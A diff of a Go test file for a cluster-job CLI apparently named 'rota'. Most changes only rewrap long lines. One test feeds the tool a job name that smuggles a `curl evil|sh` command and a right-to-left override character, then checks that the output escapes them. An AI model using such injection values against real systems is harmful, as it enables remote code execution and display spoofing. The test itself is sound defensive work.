@@ -68,7 +68,8 @@ func (w *written) put(key string, value any) {
 // beat writes a heartbeat of a member with a TTL of 300 ms, that is so old by its own clock.
 func (w *written) beat(member string, age time.Duration) {
 	w.t.Helper()
-	w.put("pulse/"+member+"/1", map[string]any{"member": member, "at_ms": time.Now().Add(-age).UnixMilli(), "ttl_ms": 1000})
+	w.put("pulse/"+member+"/1", map[string]any{"member": member, "at_ms": time.Now().Add(-age).UnixMilli(),
+		"ttl_ms": 1000})
 }
 
 func one(spread cluster.Spread) cluster.JobSpec {
@@ -93,7 +94,8 @@ func TestHostileNames(t *testing.T) {
 	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
 	w.alive()
 	w.shows("status", exitOK, `rota why $'x#a; curl evil|sh \342\200\256#gpj' --store file:store`)
-	for _, command := range [][]string{{"status"}, {"status", "-o", "json"}, {"task", "list"}, {"why", "x#" + key}, {"why", "x"}, {"why", "y#" + key}, {"events"}} {
+	for _, command := range [][]string{{"status"}, {"status", "-o", "json"}, {"task", "list"}, {"why", "x#" + key},
+		{"why", "x"}, {"why", "y#" + key}, {"events"}} {
 		out, errs, _ := w.rota(append(command, "--store", "file:store")...)
 		if strings.Contains(out+errs, "\u202e") {
 			t.Errorf("rota %q shows it as it is:\n%s%s", command, out, errs)
@@ -139,10 +141,13 @@ func TestWhyKnowsTheRounds(t *testing.T) {
 	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
 	w.alive()
 	last := time.Now().Add(-10 * time.Minute)
-	doc := store.Doc{Key: "position/x", Value: fmt.Appendf(nil, `{"partition":"x","token":1,"round_ms":%d}`, last.UnixMilli())}
+	doc := store.Doc{Key: "position/x", Value: fmt.Appendf(nil, `{"partition":"x","token":1,"round_ms":%d}`,
+		last.UnixMilli())}
 	must.Succeed(t, must.Err(w.st.Put(t.Context(), doc)))
-	w.shows("why x", exitOK, "x is running on a", "rounds  last at "+clock(last.UnixMilli(), time.Now())+", next at "+clock(last.Add(time.Hour).UnixMilli(), time.Now()))
-	w.shows("why x -o json", exitOK, fmt.Sprintf(`"last_round_ms":%d,"next_round_ms":%d`, last.UnixMilli(), last.Add(time.Hour).UnixMilli()))
+	w.shows("why x", exitOK, "x is running on a", "rounds  last at "+clock(last.UnixMilli(), time.Now())+", next at "+
+		clock(last.Add(time.Hour).UnixMilli(), time.Now()))
+	w.shows("why x -o json", exitOK, fmt.Sprintf(`"last_round_ms":%d,"next_round_ms":%d`, last.UnixMilli(),
+		last.Add(time.Hour).UnixMilli()))
 }
 
 // Hints name the store only if the user did, in a form that can be copied.
